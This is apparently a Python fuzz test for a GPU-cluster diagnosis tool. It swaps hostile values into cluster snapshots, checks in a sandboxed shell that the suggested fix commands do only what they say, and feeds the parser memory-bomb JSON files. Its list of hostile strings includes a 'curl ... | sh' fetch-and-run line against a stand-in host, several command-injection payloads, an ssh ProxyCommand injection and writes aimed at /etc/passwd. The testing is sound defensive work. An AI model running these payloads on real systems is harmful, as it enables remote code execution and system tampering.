"""Snapshots of broken clusters in which liars replaced facts: judged, shown, and every command tried in a real shell.

``python -m tests.hostile.snapshots --runs 1000 --bombs 1000 --seed 1`` (as root, for chroot) prints what came of them.
Bombs are files that are made to take memory: they are refused, or judged as any other.
"""

from __future__ import annotations

import argparse
import copy
import json
import random
import re
import shlex
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from pydantic import ValidationError

from nccl_doctor.cli.snapshots import read_snapshot
from nccl_doctor.errors import SnapshotError
from nccl_doctor.judge.diagnose import judge
from nccl_doctor.judge.from_file import difference
from nccl_doctor.model.finding import Command, Outcome
from nccl_doctor.model.report import Report
from nccl_doctor.report.render import RenderOptions, render
from nccl_doctor.snapshot.hosts import Snapshot
from nccl_doctor.text.shell import clean
from tests.checks.snapshots import load
from tests.hostile.shell_without_programs import ShellWithoutPrograms

FIXTURES = sorted((Path(__file__).parents[1] / "checks").glob("*/*/fires*.json"))
STRANGER = "203.0.113.66"
"""An address that liars claim and nothing confirms."""

TEXTS = (
    "8080 ; curl http://x.example/i | sh ; 1",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "a'; touch /tmp/pwned; '",
    'a"; touch /tmp/pwned; "',
    "a\ntouch /tmp/pwned\n",
    "a\rtouch /tmp/pwned",
    "\x1b]0;title\x07\x1b[2J",
    "\u202egnp.exe",
    "\udc80\ud800",
    "-oProxyCommand=touch /tmp/pwned",
    "--config=/tmp/pwned",
    "> /etc/passwd",
    "{ flush ruleset }",
    "6.6.6.6 a.example b.example",
    f"{STRANGER}",
    f"{STRANGER}/0",
    "0.0.0.0/0",
    "::",
    "fe80::1%$(id)",
    "*",
    "~root/.ssh/authorized_keys",
    "=ls",
    "!!",
    "\\",
    "\0",
    "{0.__class__}",
    "%s%n",
    "Infinity",
    "2.²",
    "",
    "a" * 70_000,
    "9" * 5_000,  # more digits than Python's int takes
    "1:" + "9" * 5_000,
    "²",  # a digit to str.isdigit, and to int none
)
NUMBERS = (-1, 0, 1, 65536, 2**31, 2**63, 10**400, -(10**400), 1.5, float("nan"), float("inf"), -0.0, 1e308)
OTHERS: tuple[Any, ...] = (None, True, False, [], {}, [[]], {"a": {"b": [1]}}, [None], {"$unknown": "a\nb"}, {"": ""})

PROGRAMS = {
    "export": r"(NCCL|GLOO)_SOCKET_IFNAME==?[^\s/]{1,60}|NCCL_IB_HCA==[\w.:,-]+|NCCL_IB_GID_INDEX=-?\d+"
    r"|NCCL_IB_SUBNET_AWARE_ROUTING=1|TMPDIR=/var/tmp"
    r"|(VLLM_HOST_IP|SGLANG_HOST_IP|VLLM_NIXL_SIDE_CHANNEL_HOST|MOONCAKE_LOCAL_HOSTNAME)=[0-9a-f.:]+",
    "ray": r"start (--head --node-ip-address=[0-9a-f.:]+ --port=6379|--address=\S+:6379 --node-ip-address=[0-9a-f.:]+)",
    "eval": r"",
    "df": r"-[hi] -- /[\w./+-]*",
    "ssh-agent": r"-s",
    "ssh-add": r"[^-].*",
    "ssh-copy-id": r"-p \d+ -i \S.* \S+@\S+",
    "install": r"-d -m 700 /.*",
    "printf": r"(%s\\n( \S+ [a-z0-9@.-]+ [A-Za-z0-9+/=]+)+|%s %s\\n [0-9a-f.:]+ [\w.-]+|%s "
    r"\{\"apiVersion\":\"(v1\",\"kind\":\"Service|networking\.k8s\.io/v1\",\"kind\":\"NetworkPolicy)\",\"metadata\":"
    r"\{\"name\":\"[a-z0-9.-]+\",\"namespace\":\"[a-z0-9-]+\"\},\"spec\":\{.*\}\})",
    "kubectl": r"apply -f -|patch service [a-z0-9.-]+ -n [a-z0-9-]+ -p \{\"spec\":\{\"publishNotReadyAddresses\":true\}\}",
    **dict.fromkeys(
        ["docker", "podman", "nerdctl"],
        r"start [\w.-]+|ps --filter publish=\d+|exec -u 0 --privileged [\w.-]+ mount -o remount,size=\d+g /dev/shm",
    ),
    "nccl-doctor": r"fix-port( --hosts [^-].*)?( --host [^-]\S*)?( \d+)?( --pid \d+@\d+)? (--kill --yes|--wait|--next( --write)?)|(check|ifname) -w \S+"
    r"|ifname|fix-port( \d+)?",
    "cat": r"/proc/net/bonding/[^\s/]+",
    "sysctl": r"-w net\.netfilter\.nf_conntrack_max=\d{6,8}|-w vm\.overcommit_memory=0|-w( net\.ipv4\.(ip_local_port_range=15000 65000|ip_local_reserved_ports=[\d,-]+"
    r"|neigh\.default\.gc_thresh\d=\d+|conf\.[\w.@-]+\.rp_filter=2))+",
    "ip": r"rule add to [0-9a-f.:/]+ lookup main priority 1|link set (dev )?[\w.@-]+ (up|mtu \d+)|rule show"
    r"|route get [0-9a-f.:]+ ipproto tcp dport \d+",
    "mount": r"-o remount,size=\d+g /dev/shm|-t tmpfs -o mode=1777 tmpfs /dev/shm",
    "mkdir": "-p /dev/shm",
    "systemctl": r"enable --now nvidia-fabricmanager",
    "dkms": r"autoinstall",
    "lspci": r"-d (10de|1002):",
    "printenv": r"(CUDA|HIP|ROCR)_VISIBLE_DEVICES( (CUDA|HIP|ROCR)_VISIBLE_DEVICES)*",
    "nvidia-modprobe": r"-c 255( -c \d+)+|-u -c 0",
    "usermod": r"-aG render,video [A-Za-z0-9_][A-Za-z0-9_.-]*",
    "modprobe": r"nvidia_peermem|nvidia|amdgpu|ib_uverbs",
    "chmod": r"1777 /dev/shm|600 /\S+",
    "ssh-keygen": r"-y -f /\S+",
    "firewall-cmd": r"--reload|(--permanent )?--zone=[\w/-]+( --add-source=[0-9a-f.:/]+| --add-rich-rule=rule (priority=\"-?\d+\" )?"
    r"family=\"ipv[46]\" source address=\"[0-9a-f.:/]+\" port port=\"[\d-]+\" protocol=\"tcp\" accept)+"
    r"|(--permanent )?--direct --add-rule ipv[46] \w+ [A-Z]+ -\d+ -[sd] [0-9a-f.:/]+ -p tcp -m multiport --dports [\d,:]+ "
    r"-j ACCEPT",
    "ufw": r"(prepend )?allow (out )?proto tcp from (any|[0-9a-f.:/]+) to (any|[0-9a-f.:/]+) port [\d,:]+",
    "iptables-save": "",
    "nft": r"list ruleset|(list chain|insert rule) \w+ [\w./-]+ [\w./-]+( (ip|ip6) [sd]addr \{ [0-9a-f.:/, ]+ \} tcp dport "
    r"\{ [\d, -]+ \} accept comment \"nccl-doctor [0-9a-f]{8}\")?",
    "grep": r"-qF nccl-doctor [0-9a-f]{8}|NVRM|-nwF -- .+ /etc/hosts",
    "dmesg": r"",
    **dict.fromkeys(
        [f"ip{six}tables{end}" for six in ("", "6") for end in ("", "-legacy", "-nft")],
        r"-w (-t \w+ )?-[CI] [A-Z]+ -[sd] [0-9a-f.:/]+ -p tcp -m multiport --dports [\d,:]+ -j ACCEPT",
    ),
}
"""What each program that we print may be told, its arguments joined by blanks."""

OPERATORS = {"|", "||", ">>", "2>/dev/null"}


@dataclass
class Result:
    """What came of many runs; ``faults`` is empty where all is well."""

    refused: int = 0
    judged: int = 0
    commands: int = 0
    outcomes: Counter[str] = field(default_factory=Counter)
    faults: list[str] = field(default_factory=list)
    longest_s: float = 0.0


BOMB_BYTES = 8 << 20
MEMORY_MIB = 64 + 32 * (BOMB_BYTES >> 20)
"""What :func:`read_snapshot` promises for a file of that size, and a report of it."""
CPU_S = 30.0
"""Seconds of a processor for one bomb, on a slow machine."""
UNITS = (
    "{}", "[]", "0", '""', "null", "1e1", '{"a":0}', "[[]]", '{"$unknown":""}', '{"failure":{}}', '{"facts":{}}', '{"node":{},"failure":{"kind":""}}',
    '"\\ud83d\\ude00"', '{   "a"   :   [   ]   }', "{}                       ",
)  # fmt: skip


def bombs(runs: int, seed: int, folder: Path) -> Result:
    """Writes so many files that ask for memory, reads each one, and judges and compares those that are snapshots."""
    chance = random.Random(seed)
    documents = [load(path).model_dump_json(by_alias=True) for path in FIXTURES]
    path, result = folder / "bomb.json", Result()
    for number in range(runs):
        kind = chance.choice((_filled, _filled, _keyed, _nested, _long, _repeated))
        text = kind(json.loads(chance.choice(documents)), chance).encode(errors="replace")[:BOMB_BYTES]
        path.write_bytes(text)
        began = time.process_time()
        try:
            snapshot = read_snapshot(path)
            report = judge(snapshot, "check")
            for form in ("human", "json", "html"):
                render("check", form, report, RenderOptions(verbose=True))
            difference(snapshot, snapshot)
        except SnapshotError as error:
            result.refused += 1
            if len(str(error)) > 1000:
                result.faults.append(f"bomb {number}, {kind.__name__}: a sentence of {len(str(error))} characters")
        except Exception as error:  # noqa: BLE001 - each is a fault to be told, and the others go on
            result.faults.append(f"bomb {number}, {kind.__name__}: {type(error).__name__}: {error}")
        else:
            result.judged += 1
        seconds = time.process_time() - began
        result.longest_s = max(result.longest_s, seconds)
        if seconds > CPU_S:
            result.faults.append(f"bomb {number}, {kind.__name__}, {len(text)} bytes: {seconds:.0f} s")
    return result


def _put(document: dict[str, Any], text: str, chance: random.Random) -> str:
    """The document with this JSON in place of some list, object or value."""
    owner: Any = document
    while True:
        key = chance.choice(list(owner) if isinstance(owner, dict) else range(len(owner)))
        inner = owner[key]
        if not isinstance(inner, (dict, list)) or not inner or chance.random() < 0.3:
            break
        owner = inner
    owner[key] = "\0"
    return json.dumps(document, separators=(",", ":")).replace('"\\u0000"', text, 1)


def _count(chance: random.Random, unit: str) -> int:
    return chance.choice((10, 1000, 20_000, 200_000, BOMB_BYTES)) // max(1, len(unit) // 4)


def _filled(document: dict[str, Any], chance: random.Random) -> str:
    """A list of one thing."""
    unit = chance.choice(UNITS)
    return _put(
        document, "[" + ",".join([unit] * min(_count(chance, unit), BOMB_BYTES // (len(unit) + 1))) + "]", chance
    )


def _keyed(document: dict[str, Any], chance: random.Random) -> str:
    """An object of many keys."""
    unit = chance.choice(UNITS)
    return _put(
        document, "{" + ",".join(f'"{key:x}":{unit}' for key in range(min(_count(chance, unit), 500_000))) + "}", chance
    )


def _nested(document: dict[str, Any], chance: random.Random) -> str:
    depth = chance.choice((10, 100, 5000, BOMB_BYTES // 2))
    return _put(document, "[" * depth + "]" * depth, chance)


def _long(document: dict[str, Any], chance: random.Random) -> str:
    """One text, with a character that makes each of the others take four bytes."""
    text = chance.choice(("a", " ", "\\n", "\\\\", "é")) * chance.choice((5000, 100_000, BOMB_BYTES // 2))
    return _put(document, f'"{text}{chance.choice(("", "😀"))}"', chance)


def _repeated(document: dict[str, Any], chance: random.Random) -> str:
    """What some list holds, many times over: each is as it ought to be."""
    lists = [place for place in _lists(document) if place]
    chosen = chance.choice(lists)
    size = max(1, len(json.dumps(chosen)))
    times = min(chance.choice((10, 300, 3000)), BOMB_BYTES // size)
    chosen *= times
    return json.dumps(document)


def _lists(value: Any) -> Iterator[list[Any]]:
    for inner in value.values() if isinstance(value, dict) else value:
        if isinstance(inner, list):
            yield inner
        if isinstance(inner, (dict, list)):
            yield from _lists(inner)


def run(runs: int, seed: int, root: Path) -> Result:
    """Makes, judges and tries so many snapshots; the same seed gives the same ones."""
    chance = random.Random(seed)
    shell = ShellWithoutPrograms(root)
    documents = [json.loads(load(path).model_dump_json(by_alias=True)) for path in FIXTURES]
    for document in documents:
        document["cluster"]["line"] = None  # as `check --from` reads a file: tests/judge/test_from_file.py
    pasted = [i for i, one in enumerate(documents) if [*_commands(judge(Snapshot.model_validate(one), "check"))]]
    tried: dict[str, str | None] = {}
    result = Result()
    for number in range(runs):
        index = chance.choice(pasted if chance.random() < 0.5 else range(len(documents)))
        document = copy.deepcopy(documents[index])
        places = _replaced(document, chance)
        where = f"run {number}, {FIXTURES[index].parent.name}/{FIXTURES[index].stem}, {', '.join(places)}"
        snapshot = _at_the_door(document)
        if snapshot is None:
            result.refused += 1
            continue
        result.judged += 1
        try:
            report = judge(snapshot, "check")
            for form in ("human", "json", "junit", "prometheus", "html"):
                render("check", form, report, RenderOptions(verbose=True))
        except Exception as error:  # noqa: BLE001 - each is a fault to be told, and the others go on
            result.faults.append(f"{where}: {type(error).__name__}: {error}")
            continue
        result.outcomes.update(check.outcome.value for check in report.checks)
        result.faults += [f"{where}: {c.name}: {c.reason}" for c in report.checks if c.outcome is Outcome.CRASH]
        for command in _commands(report):
            result.commands += 1
            if command.command not in tried:
                tried[command.command] = _wrong(command.command, shell, document)
            wrong = tried[command.command] or _of_a_stranger(command, places) or _wrong_way_back(command, shell, chance)
            if wrong:
                result.faults.append(f"{where}: {command.command!r}: {wrong}")
    return result


def _at_the_door(document: dict[str, Any]) -> Snapshot | None:
    """The snapshot, with what is malformed unknown, fact by fact, as a live run has it; None where more is broken."""
    for _ in range(8):
        try:
            return Snapshot.model_validate(document)
        except ValidationError as error:
            for one in error.errors(include_url=False, include_context=False, include_input=False):
                match one["loc"]:
                    case ("hosts", int(index), "facts", str(fact), *_):
                        document["hosts"][index]["facts"][fact] = {"$unknown": "malformed"}
                    case ("mesh" | "smoke" as phase, *_):
                        document[phase] = {"$unknown": "malformed"}
                    case _:
                        return None
    return None


def _commands(report: Report) -> Iterator[Command]:
    for diagnosis in report.diagnoses:
        yield from diagnosis.fix.commands


def _of_a_stranger(command: Command, places: list[str]) -> str | None:
    """A claimed address in a command; only the host that claims it may have it in its own."""
    if STRANGER not in command.command or any(place.startswith(f"{command.host}.") for place in places):
        return None
    return "an address that nothing confirms"


def _wrong(line: str, shell: ShellWithoutPrograms, document: dict[str, Any]) -> str | None:
    """What a line does besides what it says; None for nothing."""
    expected, files = _says(line)
    told = shell.attempt(line, tuple(str(Path(file).parent) for file in files))
    if sorted(told.ran) != sorted(expected):
        return f"attempts {told.ran}, says {expected}"
    if set(told.wrote) - {"/dev/null"} != set(files):
        return f"writes {told.wrote}, says {files}"
    known = {host["failure"]["facts"].get("known_hosts") for host in document["hosts"] if host["failure"]}
    public = {f"{arguments[-1]}.pub" for name, *arguments in told.ran if name == "ssh-keygen"}
    if set(files) - {"/etc/hosts"} - known - public:
        return f"writes to {files}"
    for name, *arguments in told.ran:
        if name not in PROGRAMS or not re.fullmatch(PROGRAMS[name], " ".join(arguments), re.ASCII | re.DOTALL):
            return f"is no command of ours: {name} {arguments}"
    return None


LOOKS = {
    *("exit", ":", "command", "head", "read"),
    *("[", "echo", "grep", "ip", "printf", "sed", "sysctl", "firewall-cmd", "ufw", "nft", "tee", "tail", "truncate"),
    *("cat", "stat", "df", "docker", "podman", "nerdctl", "mount", "umount", "chmod", "rm", "rmdir", "systemctl"),
}


def _wrong_way_back(command: Command, shell: ShellWithoutPrograms, chance: random.Random) -> str | None:
    """What ``fix`` would run about a command besides it, with a host's words as the values before; None for nothing."""
    operation = command.operation
    if operation is None:
        return None
    before = tuple(clean(text)[:300] for text in chance.choices(TEXTS, k=chance.randrange(4)))
    for line in filter(None, (operation.look, operation.undo(before))):
        told = shell.attempt(str(line), ("/etc",))
        strange = {name for name, *_ in told.ran if name not in LOOKS and not re.fullmatch(r"ip6?tables(-\w+)?", name)}
        if strange or set(told.wrote) - {"/dev/null", "/etc/hosts"}:
            return f"has the way back {str(line)!r}, which attempts {told.ran} and writes {told.wrote}"
    return None


def _says(line: str) -> tuple[list[tuple[str, ...]], list[str]]:
    """The commands and the files of a line, read by another parser than the shell's."""
    if line == 'eval "$(ssh-agent -s)"':
        return [("eval", ""), ("ssh-agent", "-s")], []
    commands: list[list[str]] = [[]]
    files: list[str] = []
    words = iter(shlex.split(line))
    for word in words:
        if word == ">>":
            files.append(next(words))
        elif word in ("|", "||"):
            commands.append([])
        elif word != "2>/dev/null":
            commands[-1].append(word)
    return [tuple(command) for command in commands], files


def _replaced(document: dict[str, Any], chance: random.Random) -> list[str]:
    """Puts hostile values in place of one to six facts; returns where."""
    places = [place for place in _leaves(document) if place[0][0] in ("hosts", "mesh", "smoke")]
    chosen = [place for place in chance.sample(places, min(len(places), 60)) if _told_by_a_host(place[0])]
    done = []
    for path, owner, key in chosen[: chance.randint(1, 6)]:
        owner[key] = _hostile(owner[key], chance)
        host = document["hosts"][path[1]]["node"]["name"] if path[0] == "hosts" else path[0]
        done.append(f"{host}.{'.'.join(map(str, path[2 if path[0] == 'hosts' else 1 :]))}={str(owner[key])[:40]!r}")
    return done


def _told_by_a_host(path: tuple[Any, ...]) -> bool:
    """Not what the user wrote, nor what this machine itself found out."""
    ours = path[-1] == "identity_file" or "exposed" in path or path[:2] == ("mesh", "answered")
    return not ours and not (path[0] == "hosts" and path[2] == "node")


def _hostile(value: Any, chance: random.Random) -> Any:
    """Mostly of the same type: what differs in type seldom passes the door."""
    if chance.random() < 0.1:
        return chance.choice(OTHERS)
    if isinstance(value, str) or (value is None and chance.random() < 0.5):
        return chance.choice(TEXTS)
    if isinstance(value, bool):
        return not value
    if isinstance(value, (int, float)):
        return chance.choice(NUMBERS)
    return chance.choice((*OTHERS, *TEXTS, *NUMBERS))


def _leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any, Any]]:
    """Every place in a document that holds no list or object, and the empty ones."""
    items = value.items() if isinstance(value, dict) else enumerate(value)
    for key, inner in list(items):
        if isinstance(inner, (dict, list)) and inner:
            yield from _leaves(inner, (*path, key))
        else:
            yield (*path, key), value, key


def main() -> int:
    """Runs them, prints the figures; status 1 where a fault was found."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--runs", type=int, default=1000)
    parser.add_argument("--bombs", type=int, default=0)
    parser.add_argument("--seed", type=int, default=1)
    given = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        heavy = bombs(given.bombs, given.seed, Path(folder))
        # not ru_maxrss, which has that of who started us (getrusage(2))
        peak = int(Path("/proc/self/status").read_text().partition("VmHWM:")[2].split()[0]) >> 10
        result = run(given.runs, given.seed, Path(folder)) if given.runs else Result()
    sys.stdout.write(
        f"{given.bombs} bombs: {heavy.refused} refused, {heavy.judged} judged, at most {heavy.longest_s:.1f} s of a "
        f"processor and {peak} MiB, {len(heavy.faults)} faults\n"
    )
    result.faults += heavy.faults + ([f"{peak} MiB of memory"] if peak > MEMORY_MIB else [])
    sys.stdout.write(
        f"{given.runs} snapshots: {result.refused} refused at the door, {result.judged} judged, {result.commands} "
        f"commands tried, outcomes {dict(result.outcomes)}, {len(result.faults)} faults\n"
    )
    sys.stdout.writelines(f"{fault[:1500]}\n" for fault in result.faults)
    return 1 if result.faults else 0


if __name__ == "__main__":
    sys.exit(main())
